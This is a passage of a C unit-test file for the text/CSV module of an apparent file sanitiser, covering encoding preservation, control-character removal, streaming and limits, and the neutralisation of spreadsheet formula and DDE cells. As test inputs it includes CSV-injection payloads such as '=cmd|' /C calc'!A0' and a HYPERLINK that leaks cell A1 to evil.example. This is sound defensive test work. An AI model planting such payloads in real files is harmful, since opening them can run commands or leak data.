/* The text and CSV module: encodings kept byte for byte, control characters removed,
 * formula/DDE cells neutralised, streaming across chunk boundaries, limits. */
#include "testutil.h"

#include <errno.h>
#include <iconv.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

extern size_t sk_cdr_text_chunk; /* test hook in src/cdr/text.c */

#define S(lit) lit, sizeof(lit) - 1

/* ---- helpers -------------------------------------------------------------------- */

/* Converts n bytes from one charset to another into out (reset). 0 on success. */
static int conv(const char *from, const char *to, const void *p, size_t n, sk_buf *out)
{
	sk_buf_reset(out);
	iconv_t cd = iconv_open(to, from);
	if (cd == (iconv_t)-1)
		return -1;
	char *ip = (char *)(uintptr_t)p;
	size_t il = n;
	int rc = 0;
	while (il > 0) {
		char tmp[1024];
		char *op = tmp;
		size_t ol = sizeof(tmp);
		size_t r = iconv(cd, &ip, &il, &op, &ol);
		sk_buf_add(out, tmp, (size_t)(op - tmp));
		if (r == (size_t)-1 && errno != E2BIG) {
			rc = -1;
			break;
		}
	}
	if (rc == 0) {
		char tmp[64];
		char *op = tmp;
		size_t ol = sizeof(tmp);
		iconv(cd, NULL, NULL, &op, &ol);
		sk_buf_add(out, tmp, (size_t)(op - tmp));
	}
	iconv_close(cd);
	return rc;
}

/* UTF-8 literal converted to cs (the test fails when it cannot be). */
static void enc(const char *cs, const char *utf8, sk_buf *out)
{
	sk_buf_init(out, 0);
	if (conv("UTF-8", cs, utf8, strlen(utf8), out))
		fail_msg("cannot encode test text to %s", cs);
}

static void assert_bytes(const sk_buf *got, const void *want, size_t n)
{
	if (got->len != n || (n && memcmp(got->data, want, n))) {
		fprintf(stderr, "# got %zu bytes: ", got->len);
		for (size_t i = 0; i < got->len && i < 200; i++)
			fprintf(stderr, (got->data[i] >= 0x20 && got->data[i] < 0x7F) ? "%c" : "\\x%02x",
				got->data[i]);
		fprintf(stderr, "\n# want %zu bytes: ", n);
		for (size_t i = 0; i < n && i < 200; i++) {
			uint8_t c = ((const uint8_t *)want)[i];
			fprintf(stderr, (c >= 0x20 && c < 0x7F) ? "%c" : "\\x%02x", c);
		}
		fprintf(stderr, "\n");
		fail_msg("output differs");
	}
}

static const sk_report_entry *entry(const sk_report *rep, const char *what)
{
	for (size_t i = 0; i < rep->n; i++)
		if (!strcmp(rep->v[i].what, what))
			return &rep->v[i];
	return NULL;
}

/* Whole path: unchanged bytes and verdict clean. */
static void expect_clean(const void *data, size_t n, const char *name)
{
	tu_run r;
	tu_process(data, n, name, NULL, &r);
	assert_verdict(&r, SK_VERDICT_CLEAN);
	assert_int_equal(r.res.report.n, 0);
	assert_bytes(&r.out, data, n);
	tu_free(&r);
}

/* Whole path: sanitised into want. */
static void expect_out(const void *data, size_t n, const char *name, const void *want,
		       size_t wn, tu_run *r)
{
	tu_process(data, n, name, NULL, r);
	assert_verdict(r, SK_VERDICT_SANITIZED);
	assert_bytes(&r->out, want, wn);
}

struct mod_run {
	int rc;
	sk_reason reason;
	sk_report rep;
	sk_buf out;
};

/* The module directly, as detection would call it with kind; fd input when chunk != 0
 * (the read chunk set to chunk bytes), memory input otherwise. */
static void run_module(const void *data, size_t n, sk_kind kind, const char *name,
		       const sk_profile *prof, sk_budget *budget, size_t chunk, struct mod_run *m)
{
	sk_budget def;
	sk_budget_default(&def);
	sk_report_init(&m->rep);
	sk_buf_init(&m->out, 0);
	sk_cdr_ctx ctx = {
		.budget = budget ? budget : &def,
		.report = &m->rep,
		.profile = prof ? prof : sk_profile_default(),
		.where = "",
		.name = name,
		.type = {.kind = kind, .code = kind == SK_KIND_CSV ? "csv" : "text"},
	};
	const sk_cdr_module *mod = sk_cdr_find(&ctx.type);
	assert_non_null(mod);
	assert_string_equal(mod->name, "text");
	sk_input in;
	int fd = -1;
	if (chunk) {
		char path[] = "/tmp/sk_test_text_XXXXXX";
		fd = mkstemp(path);
		assert_true(fd >= 0);
		unlink(path);
		assert_int_equal(write(fd, data, n), (ssize_t)n);
		sk_input_fd(&in, fd, n);
		sk_cdr_text_chunk = chunk;
	} else {
		sk_input_mem(&in, data, n);
	}
	sk_output o;
	sk_output_buf(&o, &m->out);
	sk_error err;
	sk_error_clear(&err);
	m->rc = mod->sanitize(&ctx, &in, &o, &err);
	m->reason = ctx.reason;
	sk_cdr_text_chunk = 0;
	sk_input_release(&in);
	if (fd >= 0)
		close(fd);
}

static void mod_free(struct mod_run *m)
{
	sk_report_free(&m->rep);
	sk_buf_free(&m->out);
}

/* ---- encodings kept ------------------------------------------------------------- */

static const char jp_csv[] =
	"氏名,住所,電話,備考\r\n"
	"山田太郎,東京都千代田区霞が関１－２－３,03-1234-5678,ソフト表示\r\n"
	"鈴木花子,\"大阪市北区, 梅田\",-,①㈱№ァ　ポ\r\n"
	"佐藤,\"複数行\r\nの備考\",+81,\"引用符\"\"入り\"\r\n";

static void cp932_crlf_kept(void **state)
{
	(void)state;
	sk_buf b;
	enc("CP932", jp_csv, &b);
	expect_clean(b.data, b.len, "jusho.csv");
	expect_clean(b.data, b.len, "jusho.txt");
	sk_buf_free(&b);
}

static void eucjp_kept(void **state)
{
	(void)state;
	sk_buf b;
	enc("EUC-JP-MS", jp_csv, &b);
	expect_clean(b.data, b.len, "a.csv");
	sk_buf_free(&b);
}

static void utf8_bom_kept(void **state)
{
	(void)state;
	sk_buf b;
	sk_buf_init(&b, 0);
	sk_buf_add(&b, S("\xEF\xBB\xBF"));
	sk_buf_adds(&b, jp_csv);
	expect_clean(b.data, b.len, "a.csv");
	expect_clean(b.data + 3, b.len - 3, "a.csv"); /* and without the BOM */
	sk_buf_free(&b);

	/* the first cell starts after the BOM */
	tu_run r;
	expect_out(S("\xEF\xBB\xBF=1+1,a\r\nb,c\r\n"), "a.csv", S("\xEF\xBB\xBF'=1+1,a\r\nb,c\r\n"),
		   &r);
	assert_string_equal(entry(&r.res.report, "formula")->where, "line 1, column 1");
	tu_free(&r);
}

static void utf16le_tsv(void **state)
{
	(void)state;
	/* Excel's "Unicode text": UTF-16LE with BOM, TAB separated, CRLF */
	sk_buf b, dec;
	enc("UTF-16LE", "\xEF\xBB\xBF名前\t式\t数\r\n山田\t合計\t-5\r\n", &b);
	assert_memory_equal(b.data, "\xFF\xFE", 2);
	expect_clean(b.data, b.len, "book.txt");

	sk_buf_free(&b);
	enc("UTF-16LE", "\xEF\xBB\xBF名前\t式\r\n山田\t=SUM(A1:A3)\r\n\"x\x01\"\t@A1\r\n", &b);
	tu_run r;
	tu_process(b.data, b.len, "book.txt", NULL, &r);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	assert_memory_equal(r.out.data, "\xFF\xFE", 2);
	assert_int_equal(r.out.len % 2, 0);
	sk_buf_init(&dec, 0);
	assert_int_equal(conv("UTF-16LE", "UTF-8", r.out.data, r.out.len, &dec), 0);
	const char *want = "\xEF\xBB\xBF名前\t式\r\n山田\t'=SUM(A1:A3)\r\n\"x\"\t'@A1\r\n";
	assert_bytes(&dec, want, strlen(want));
	const sk_report_entry *f = entry(&r.res.report, "formula");
	assert_non_null(f);
	assert_int_equal(f->count, 2);
	assert_string_equal(f->where, "line 2, column 2");
	assert_int_equal(entry(&r.res.report, "control-characters")->count, 1);
	tu_free(&r);
	sk_buf_free(&dec);
	sk_buf_free(&b);
}

static void utf16be_and_nul(void **state)
{
	(void)state;
	sk_buf b, dec;
	enc("UTF-16BE", "\xEF\xBB\xBFテキスト\n", &b);
	expect_clean(b.data, b.len, "a.txt");
	/* U+0000 and U+0085 (C1) in UTF-16 are removed */
	sk_buf_reset(&b);
	sk_buf_add(&b, S("\xFE\xFF\0a\0\0\0b\0\x85\0c\0\n"));
	tu_run r;
	tu_process(b.data, b.len, "a.txt", NULL, &r);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	assert_bytes(&r.out, "\xFE\xFF\0a\0b\0c\0\n", 10);
	assert_int_equal(entry(&r.res.report, "control-characters")->count, 2);
	tu_free(&r);
	/* a lone surrogate cannot be decoded: blocked, not garbled */
	tu_process(S("\xFF\xFE" "a\0" "\x00\xD8" "b\0"), "a.txt", NULL, &r);
	assert_verdict(&r, SK_VERDICT_BLOCKED);
	assert_reason(&r, SK_REASON_MALFORMED);
	tu_free(&r);
	(void)dec;
	sk_buf_free(&b);
}

static void iso2022jp_kept(void **state)
{
	(void)state;
	sk_buf b;
	enc("ISO-2022-JP", "件名,本文\r\n会議,明日の会議は=中止=です\r\n宗教,\"x+,=\"\r\n", &b);
	expect_clean(b.data, b.len, "mail.csv");
	/* NEC row 13 (①, written by Windows as ESC $ B 0x2D21) that glibc cannot decode,
	 * and a kanji whose first JIS byte is '=' (宗 = 0x3D21) at the start of a cell */
	static const char nec[] = "a,b\r\n\x1b$B-!-\"\x1b(B,\x1b$B=!\x1b(B\r\nc,d\r\n";
	expect_clean(S(nec), "maru.csv");
	sk_buf_free(&b);
}

static void iso2022jp_changed(void **state)
{
	(void)state;
	sk_buf b, dec;
	sk_buf_init(&b, 0);
	sk_buf_init(&dec, 0);
	/* a formula in ASCII mode, a control character, and a cell that starts in kanji mode
	 * (the line break inside JIS X 0208 mode) and switches to ASCII for a formula */
	static const char in[] = "\x1b$B2q5D\x1b(B,=1+1\x07\r\n"
				 "\x1b$B=!\x1b(B,\x1b$B=!\r\n\x1b(B=2+2,x\r\n"
				 "padding so that detection sees one control byte in a hundred,x\r\n";
	tu_run r;
	tu_process(S(in), "j.csv", NULL, &r);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	assert_int_equal(conv("ISO-2022-JP", "UTF-8", r.out.data, r.out.len, &dec), 0);
	const char *want = "会議,'=1+1\r\n宗,宗\r\n'=2+2,x\r\n"
			   "padding so that detection sees one control byte in a hundred,x\r\n";
	assert_bytes(&dec, want, strlen(want));
	assert_int_equal(entry(&r.res.report, "formula")->count, 2);
	assert_int_equal(entry(&r.res.report, "control-characters")->count, 1);
	/* the ' before =2+2 is written in ASCII mode, then kanji mode is restored */
	assert_non_null(memmem(r.out.data, r.out.len, "\x1b(B'\x1b$B\x1b(B=2+2", 14));
	tu_free(&r);
	sk_buf_free(&dec);
	sk_buf_free(&b);
}

static void iso2022jp_raw_reading(void **state)
{
	(void)state;
	/* Excel opens a .csv in CP932, where the two-byte JIS text after ESC $ B is ASCII: a
	 * DDE payload hidden there would run. It cannot be neutralised without breaking the
	 * JIS text, so the file is blocked. */
	static const char evil[] = "a,b\r\n\x1b$B0lHL\x1b(B,x\r\n"
				   "\x1b$B<B8=,=cmd|'/c calc'!A0\r\n\x1b(Bend,z\r\n";
	tu_run r;
	tu_process(S(evil), "evil.csv", NULL, &r);
	assert_verdict(&r, SK_VERDICT_BLOCKED);
	assert_reason(&r, SK_REASON_MALFORMED);
	tu_free(&r);
	/* kanji whose JIS bytes hold ',' '=' '@' (穐 = 0x302C, 宗 = 0x3D21, 澄 = 0x4021) but
	 * nothing that could run are left alone */
	expect_clean(S("\x1b$B7oL>\x1b(B,\x1b$BK\\J8\x1b(B\r\n\x1b$B0,=!0,@!\x1b(B,x\r\n"), "k.csv");
	/* a formula in an ASCII segment seen only by the byte reading is neutralised: the
	 * cell starting with ◆ (JIS 0x2221, bytes '"' '!') opens a quote for that reading
	 * only, so it sees the next quote as closing and "=HYPERLINK(1)" as a new cell */
	static const char q[] = "a,b\r\n\x1b$B\"!\x1b(B,\"x\r\n=HYPERLINK(1)\",y\r\n";
	tu_process(S(q), "q.csv", NULL, &r);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	assert_non_null(memmem(r.out.data, r.out.len, S("\n'=HYPERLINK(1)")));
	tu_free(&r);
}

/* ---- control characters ------------------------------------------------------------ */

static void control_chars(void **state)
{
	(void)state;
	struct mod_run m;
	run_module(S("first line\nsecond\n3rd\x01 line\x7f\x0b\x0c\x1b[31mred\xc2\x85x\xc2\xa0y\x1a\n"),
		   SK_KIND_TEXT, "a.txt", NULL, NULL, 0, &m);
	assert_int_equal(m.rc, 0);
	assert_bytes(&m.out, S("first line\nsecond\n3rd line[31mredx\xc2\xa0y\n"));
	const sk_report_entry *e = entry(&m.rep, "control-characters");
	assert_non_null(e);
	assert_int_equal(e->action, SK_ACTION_REMOVED);
	assert_int_equal(e->count, 7); /* 01 7f 0b 0c 1b c2-85 1a */
	assert_string_equal(e->where, "line 3");
	assert_int_equal(m.rep.n, 1);
	mod_free(&m);
	/* old Mac line ends count as lines too; TAB CR LF are kept */
	run_module(S("a\rb\r\tc\x02\r\n"), SK_KIND_TEXT, "a.txt", NULL, NULL, 0, &m);
	assert_bytes(&m.out, S("a\rb\r\tc\r\n"));
	assert_string_equal(entry(&m.rep, "control-characters")->where, "line 3");
	mod_free(&m);
	/* the whole path: verdict and where */
	tu_run r;
	expect_out(S("This is a plain text file of some length.\nIt has a bell\x07 on line two.\n"
		     "And a form feed on line three\x0c and it ends here with enough text.\n"),
		   "a.txt",
		   S("This is a plain text file of some length.\nIt has a bell on line two.\n"
		     "And a form feed on line three and it ends here with enough text.\n"),
		   &r);
	e = entry(&r.res.report, "control-characters");
	assert_int_equal(e->count, 2);
	assert_string_equal(e->where, "line 2");
	assert_string_equal(sk_what_text(e->what, SK_LANG_JA), "制御文字");
	tu_free(&r);
}

static void nul_stripped(void **state)
{
	(void)state;
	/* detection refuses NUL in the first 64 KiB, so NUL reaches the module in longer
	 * files or through containers: call it directly */
	struct mod_run m;
	run_module(S("ab\ncd\0e\0\0,\0=1\n"), SK_KIND_CSV, "a.csv", NULL, NULL, 0, &m);
	assert_int_equal(m.rc, 0);
	assert_bytes(&m.out, S("ab\ncde,'=1\n"));
	const sk_report_entry *e = entry(&m.rep, "control-characters");
	assert_int_equal(e->count, 4);
	assert_string_equal(e->where, "line 2");
	/* the NUL before '=' did not hide the formula */
	assert_int_equal(entry(&m.rep, "formula")->count, 1);
	mod_free(&m);

	/* NUL after the detection sample, through the whole path */
	size_t n = 70000;
	char *big = malloc(n);
	for (size_t i = 0; i < n; i++)
		big[i] = (i % 50 == 49) ? '\n' : 'a';
	big[n - 10] = 0;
	tu_run r;
	tu_process(big, n, "big.txt", NULL, &r);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	assert_int_equal(r.out.len, n - 1);
	assert_null(memchr(r.out.data, 0, r.out.len));
	tu_free(&r);
	free(big);
}

static void c1_only_in_utf8(void **state)
{
	(void)state;
	/* CP932: ﾂ (0xC2) followed by a lead byte 0x81 is not a UTF-8 C1 control */
	sk_buf b;
	enc("CP932", "ﾂ　東京都の住所録です。ﾂ…ﾂ―\r\n名前,電話\r\n", &b);
	assert_memory_equal(b.data, "\xC2\x81\x40", 3);
	expect_clean(b.data, b.len, "a.csv");
	sk_buf_free(&b);
	/* invalid UTF-8 is kept byte for byte (and so is C2 85 in a file that is not UTF-8) */
	expect_clean(S("abc\xC3(\xA0\xA1 \xC2\x85 \xFF,x\nline,two\n"), "bad.csv");
}

/* ---- formulas -------------------------------------------------------------------- */

static void every_trigger(void **state)
{
	(void)state;
	tu_run r;
	expect_out(S("k,v\n"
		     "a,=1+1\n"
		     "b,+1+1\n"
		     "c,-2+3\n"
		     "d,@SUM(A1)\n"
		     "e,\"\t=1+1\"\n"
		     "f,\"\r=1+1\"\n"
		     "g, =1+1\n"
		     "h,\t-A1\n"),
		   "t.csv",
		   S("k,v\n"
		     "a,'=1+1\n"
		     "b,'+1+1\n"
		     "c,'-2+3\n"
		     "d,'@SUM(A1)\n"
		     "e,\"'\t=1+1\"\n"
		     "f,\"'\r=1+1\"\n"
		     "g,' =1+1\n"
		     "h,'\t-A1\n"),
		   &r);
	const sk_report_entry *e = entry(&r.res.report, "formula");
	assert_int_equal(e->action, SK_ACTION_NEUTRALIZED);
	assert_int_equal(e->count, 8);
	assert_string_equal(e->where, "line 2, column 2");
	assert_int_equal(r.res.report.n, 1);
	tu_free(&r);
	/* first column, first line */
	expect_out(S("=A1,b\n@x,y\n"), "t.csv", S("'=A1,b\n'@x,y\n"), &r);
	assert_string_equal(entry(&r.res.report, "formula")->where, "line 1, column 1");
	tu_free(&r);
}

static void dde(void **state)
{
	(void)state;
	tu_run r;
	expect_out(S("id,cmd\r\n"
		     "1,=cmd|' /C calc'!A0\r\n"
		     "2,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"\r\n"
		     "3,-cmd|' /C calc'!A0\r\n"
		     "4,@cmd|' /C calc'!A0\r\n"
		     "5,+cmd|' /C calc'!A0\r\n"),
		   "dde.csv",
		   S("id,cmd\r\n"
		     "1,'=cmd|' /C calc'!A0\r\n"
		     "2,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"\r\n"
		     "3,'-cmd|' /C calc'!A0\r\n"
		     "4,'@cmd|' /C calc'!A0\r\n"
		     "5,'+cmd|' /C calc'!A0\r\n"),
		   &r);
	assert_int_equal(entry(&r.res.report, "formula")->count, 5);
	tu_free(&r);
}

static void quoted_fields(void **state)
{
	(void)state;
	tu_run r;
	/* separators, doubled quotes and line breaks inside quotes are content; a quote in
	 * the middle of an unquoted field is literal */
	expect_out(S("a,b,c,d\n"
		     "\"x,=1\",\"say \"\"=2\"\"\",\"multi\n=3\nline\",=4\n"
		     "\"=5\",a\"=6,\"\"\"=7\",\"\"\n"),
		   "q.csv",
		   S("a,b,c,d\n"
		     "\"x,=1\",\"say \"\"=2\"\"\",\"multi\n=3\nline\",'=4\n"
		     "\"'=5\",a\"=6,\"\"\"=7\",\"\"\n"),
		   &r);
	const sk_report_entry *e = entry(&r.res.report, "formula");
	assert_int_equal(e->count, 2);
	assert_string_equal(e->where, "line 4, column 4");
	tu_free(&r);
	/* a quoted formula after removed control characters: the ' goes inside the quotes */
	struct mod_run m;
	run_module(S("a,\x01\x02\"=1+1\",b\n"), SK_KIND_CSV, "q.csv", NULL, NULL, 0, &m);
	assert_int_equal(m.rc, 0);
	assert_bytes(&m.out, S("a,\"'=1+1\",b\n"));
	mod_free(&m);
}

static void numbers_untouched(void **state)
{
	(void)state;
	expect_clean(S("n,v,w,x\n-5,+81,-1.5e3,\"-1,234\"\n-3%,+0.5,-,+\n\"-7\",-1E-3, -9 ,-$5\n"),
		     "n.csv");
	tu_run r;
	expect_out(S("n,v\n-1e,- 5\n--5,-5-\n"), "n.csv", S("n,v\n'-1e,'- 5\n'--5,'-5-\n"), &r);
	assert_int_equal(entry(&r.res.report, "formula")->count, 4);
	tu_free(&r);
}

/* Telephone numbers after a '+' are data; the same shapes with anything that could name a
 * function or a cell, or that are not telephone numbers, are neutralised. */
static void phone_numbers_untouched(void **state)
{
	(void)state;
	expect_clean(S("tel,n\r\n"
		       "+81-3-1234-5678,1\r\n"
		       "+81 3 1234 5678,2\r\n"
		       "+1 (555) 010-9999,3\r\n"
		       "+44 (0)20 7946 0958,4\r\n"
		       "\"+81-90-1234-5678\",5\r\n"
		       "+1.555.010.9999,6\r\n"
		       "+81-3-1234-5678  ,7\r\n"
		       "+1(555)0109999,8\r\n"
		       " +81-3-1234-5678,9\r\n"
		       "-1234,-1,234.5\r\n"
		       "\xE2\x88\x92" "3,10\r\n"), /* U+2212 MINUS SIGN: not a trigger */
		     "tel.csv");
	/* read with TAB and ';' too: parentheses among digits call nothing there */
	expect_clean(S("a\tb\n+1 (555) 010-9999\t7\nq,+44 (0)20 7946 0958;8\n"), "tel.tsv");
	tu_run r;
	expect_out(S("tel\n"
		     "+81-3-1234-5678x\n"
		     "+1-2\n"
		     "+81--3-1234-5678\n"
		     "+(81)(3)1234-5678\n"
		     "+81-3-1234-5678-\n"
		     "+1 (555 010-9999\n"
		     "+81-3-1234+5678\n"
		     "+1 (555) 010-9999)\n"
		     "-03-1234-5678\n"
		     "+1 (A1) 555-0199\n"
		     "+81-3-1234-56789012345\n"
		     "\"+81-3-\"\"1234\"\n"),
		   "bad.csv",
		   S("tel\n"
		     "'+81-3-1234-5678x\n"
		     "'+1-2\n"
		     "'+81--3-1234-5678\n"
		     "'+(81)(3)1234-5678\n"
		     "'+81-3-1234-5678-\n"
		     "'+1 (555 010-9999\n"
		     "'+81-3-1234+5678\n"
		     "'+1 (555) 010-9999)\n"
		     "'-03-1234-5678\n"
		     "'+1 (A1) 555-0199\n"
		     "'+81-3-1234-56789012345\n"
		     "\"'+81-3-\"\"1234\"\n"),
		   &r);
	assert_int_equal(entry(&r.res.report, "formula")->count, 12);
	tu_free(&r);
	/* the other readings: a function call in parentheses is still caught there */
	expect_out(S("a,b\nc\t+1 (SUM(A1)) 5,d\n"), "m.csv", S("a,b\nc\t'+1 (SUM(A1)) 5,d\n"), &r);
	tu_free(&r);
}

static void separators(void **state)
{
	(void)state;
	tu_run r;
	/* semicolon file */
	expect_out(S("a;b;c\n1;=1+1;x\n"), "s.txt", S("a;b;c\n1;'=1+1;x\n"), &r);
	assert_string_equal(entry(&r.res.report, "formula")->where, "line 2, column 2");
	tu_free(&r);
	/* a .csv without a comma in its first line: its content says ';' */
	expect_out(S("a;b;c\n1;=1+1;x\n"), "s.csv", S("a;b;c\n1;'=1+1;x\n"), &r);
	tu_free(&r);
	/* sep= first line */
	expect_out(S("sep=|\r\na|b\r\nc|=d\r\n"), "p.csv", S("sep=|\r\na|b\r\nc|'=d\r\n"), &r);
	assert_string_equal(entry(&r.res.report, "formula")->where, "line 3, column 2");
	tu_free(&r);
	/* other readings catch a cell that would run something: a ',' file read with TAB */
	expect_out(S("a,b\nc\t=HYPERLINK(\"x\"),d\ne\t-1+1,f\n"), "m.csv",
		   S("a,b\nc\t'=HYPERLINK(\"x\"),d\ne\t-1+1,f\n"), &r);
	tu_free(&r);
	/* but do not touch arithmetic or text there: a multi-line cell with bullets */
	expect_clean(S("id,memo\r\n1,\"items:\r\n-one\r\n-two\r\n=3\"\r\n"), "ml.csv");
}

static void sjis_trail_bytes(void **state)
{
	(void)state;
	/* ァ = 83 40 ('@' trail) and 　 = 81 40 and ソ = 83 5C at the start of cells */
	sk_buf b;
	enc("CP932", "東京都の名簿です,ァ@ア,　=全角,ソ表\r\nデータ,ァ,　-1+1,ソ\r\n", &b);
	assert_non_null(memmem(b.data, b.len, ",\x83\x40", 3));
	expect_clean(b.data, b.len, "a.csv");
	/* sep=| with ポ = 83 7C ('|' trail): lead bytes are tracked */
	sk_buf_free(&b);
	enc("CP932", "sep=|\r\n東京都の名簿です|備考\r\nポ=1|ポ@x\r\nア|=1+1\r\n", &b);
	tu_run r;
	tu_process(b.data, b.len, "p.csv", NULL, &r);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	sk_buf dec;
	sk_buf_init(&dec, 0);
	assert_int_equal(conv("CP932", "UTF-8", r.out.data, r.out.len, &dec), 0);
	const char *want = "sep=|\r\n東京都の名簿です|備考\r\nポ=1|ポ@x\r\nア|'=1+1\r\n";
	assert_bytes(&dec, want, strlen(want));
	assert_int_equal(entry(&r.res.report, "formula")->count, 1);
	tu_free(&r);
	sk_buf_free(&dec);
	sk_buf_free(&b);
}

static void cp932_neutralised_valid(void **state)
{
	(void)state;
	const char *src = "氏名,金額,備考\r\n"
			  "山田,=SUM(B2:B9),①備考\r\n"
			  "鈴木,-500,\"=HYPERLINK(\"\"http://x\"\",\"\"表\"\")\"\r\n"
			  "ソ,@ソ,-ソ\r\n";
	const char *want = "氏名,金額,備考\r\n"
			   "山田,'=SUM(B2:B9),①備考\r\n"
			   "鈴木,-500,\"'=HYPERLINK(\"\"http://x\"\",\"\"表\"\")\"\r\n"
			   "ソ,'@ソ,'-ソ\r\n";
	sk_buf b, w, dec;
	enc("CP932", src, &b);
	enc("CP932", want, &w);
	tu_run r;
	expect_out(b.data, b.len, "kingaku.csv", w.data, w.len, &r);
	sk_buf_init(&dec, 0);
	/* still valid CP932 (iconv decodes every byte) and reads as expected */
	assert_int_equal(conv("CP932", "UTF-8", r.out.data, r.out.len, &dec), 0);
	assert_bytes(&dec, want, strlen(want));
	assert_int_equal(entry(&r.res.report, "formula")->count, 4);
	tu_free(&r);
	sk_buf_free(&dec);
	sk_buf_free(&w);
	sk_buf_free(&b);
}

static void text_kind_not_neutralised(void **state)
{
	(void)state;
	expect_clean(S("=1+1 is how you write it\n-not a formula\n"), "note.txt");
	/* and CSV with the profile option off */
	sk_profile p = *sk_profile_default();
	p.csv_neutralize = false;
	struct mod_run m;
	run_module(S("a,=1+1\x01\n"), SK_KIND_CSV, "a.csv", &p, NULL, 0, &m);
	assert_int_equal(m.rc, 0);
	assert_bytes(&m.out, S("a,=1+1\n"));
	assert_null(entry(&m.rep, "formula"));
	mod_free(&m);
}

/* ---- streaming -------------------------------------------------------------------- */

/* A CSV with everything the state machines carry: quotes, CRLF, controls, formulas,
 * numbers, multibyte UTF-8. */
static void make_mixed(sk_buf *b, int lines)
{
	sk_buf_init(b, 0);
	sk_buf_adds(b, "\xEF\xBB\xBFid,値,式,memo\r\n");
	for (int i = 0; i < lines; i++) {
		switch (i % 9) {
		case 0: sk_buf_printf(b, "%d,東京,=A%d+1,\"x,y\"\r\n", i, i); break;
		case 1: sk_buf_printf(b, "%d,-%d.5,\"@SUM(A1)\",\"multi\r\n=line\"\r\n", i, i); break;
		case 2: sk_buf_printf(b, "%d,\x01\x02,+%d,\"q\"\"=x\"\"\"\r\n", i, i); break;
		case 3: sk_buf_printf(b, "%d,\xc2\x85\xc2\xa0,-2+3,\t=1\r\n", i); break;
		case 4: sk_buf_printf(b, "%d,\"=cmd|' /C calc'!A0\",-%d,\"\"\r\n", i, i); break;
		case 5: sk_buf_printf(b, "%d,ソ,\x7f=1,   -5   \r", i); break;
		case 6: sk_buf_printf(b, "%d,\"\r\n\",-1e5,@x\n", i); break;
		case 7: sk_buf_printf(b, "%d,\t-HYPERLINK(\"a\"),c;=x(1),%*s\r\n", i, i % 50, ""); break;
		default: sk_buf_printf(b, "%d,,,\r\n", i); break;
		}
	}
}

static void chunk_boundaries(void **state)
{
	(void)state;
	sk_buf b;
	make_mixed(&b, 400);
	struct mod_run ref;
	run_module(b.data, b.len, SK_KIND_CSV, "m.csv", NULL, NULL, 0, &ref);
	assert_int_equal(ref.rc, 0);
	const sk_report_entry *rf = entry(&ref.rep, "formula");
	const sk_report_entry *rc = entry(&ref.rep, "control-characters");
	assert_non_null(rf);
	assert_non_null(rc);
	assert_true(rf->count >= 400 * 5 / 9);
	static const size_t chunks[] = {1, 2, 3, 5, 7, 13, 64, 4095, 4096, 4097, 65536};
	for (size_t k = 0; k < sizeof(chunks) / sizeof(chunks[0]); k++) {
		struct mod_run m;
		run_module(b.data, b.len, SK_KIND_CSV, "m.csv", NULL, NULL, chunks[k], &m);
		assert_int_equal(m.rc, 0);
		assert_bytes(&m.out, ref.out.data, ref.out.len);
		assert_int_equal(m.rep.n, ref.rep.n);
		assert_int_equal(entry(&m.rep, "formula")->count, rf->count);
		assert_string_equal(entry(&m.rep, "formula")->where, rf->where);
		assert_int_equal(entry(&m.rep, "control-characters")->count, rc->count);
		mod_free(&m);
	}
	mod_free(&ref);
	sk_buf_free(&b);
}

static void chunk_boundary_default(void **state)
{
	(void)state;
	/* a file larger than the 1 MiB default chunk, with a formula, a CRLF, a UTF-8 C1
	 * control and a quoted cell each straddling the first boundary */
	const size_t chunk = (size_t)1 << 20;
	static const char *const tails[] = {",=cmd|' /C calc'!A0\r\n", "\r\n=1+1,x\n",
					    "\xc2\x85,x\n", ",\"=2\"\n"};
	for (size_t t = 0; t < 4; t++) {
		for (size_t back = 0; back < 4; back++) {
			size_t n = chunk + 8192;
			char *d = malloc(n);
			for (size_t i = 0; i < n; i++)
				d[i] = (i % 64 == 63) ? '\n' : 'a';
			size_t tl = strlen(tails[t]);
			memcpy(d + chunk - 1 - back, tails[t], tl);
			struct mod_run m;
			run_module(d, n, SK_KIND_CSV, "big.csv", NULL, NULL, chunk, &m);
			assert_int_equal(m.rc, 0);
			if (t == 2) {
				assert_int_equal(m.out.len, n - 2);
				assert_int_equal(entry(&m.rep, "control-characters")->count, 1);
			} else {
				assert_int_equal(m.out.len, n + 1);
				assert_int_equal(entry(&m.rep, "formula")->count, 1);
				assert_non_null(memmem(m.out.data, m.out.len, t == 3 ? "\"'=2" : "'=", t == 3 ? 4 : 2));
			}
			mod_free(&m);
			free(d);
		}
	}
}

static void utf16_chunks(void **state)
{
	(void)state;
	sk_buf b, u16;
	make_mixed(&b, 120);
	sk_buf_init(&u16, 0);
	assert_int_equal(conv("UTF-8", "UTF-16LE", b.data, b.len, &u16), 0);
	struct mod_run ref;
	run_module(u16.data, u16.len, SK_KIND_CSV, "u.txt", NULL, NULL, 0, &ref);
	assert_int_equal(ref.rc, 0);
	assert_non_null(entry(&ref.rep, "formula"));
	static const size_t chunks[] = {1, 7, 100, 5000};
	for (size_t k = 0; k < 4; k++) {
		struct mod_run m;
		run_module(u16.data, u16.len, SK_KIND_CSV, "u.txt", NULL, NULL, chunks[k], &m);
		assert_int_equal(m.rc, 0);
		assert_bytes(&m.out, ref.out.data, ref.out.len);
		assert_int_equal(entry(&m.rep, "formula")->count, entry(&ref.rep, "formula")->count);
		mod_free(&m);
	}
	mod_free(&ref);
	sk_buf_free(&u16);
	sk_buf_free(&b);
}

/* ---- limits -------------------------------------------------------------------- */

/* The item's clock, looked at once a chunk: past the deadline a text is blocked
 * limit-time; with time left, the same text is delivered. */
static void time_limit(void **state)
{
	(void)state;
	const char csv[] = "a,b\n=1+2,x\n";
	const char txt[] = "住民票の写しの交付申請について\n";
	sk_budget b;
	tu_budget(&b, true);
	assert_int_equal(tu_direct(csv, sizeof(csv) - 1, "t.csv", &b, NULL), SK_REASON_LIMIT_TIME);
	assert_int_equal(tu_direct(txt, sizeof(txt) - 1, "t.txt", &b, NULL), SK_REASON_LIMIT_TIME);
	tu_budget(&b, false);
	sk_buf out;
	sk_buf_init(&out, 0);
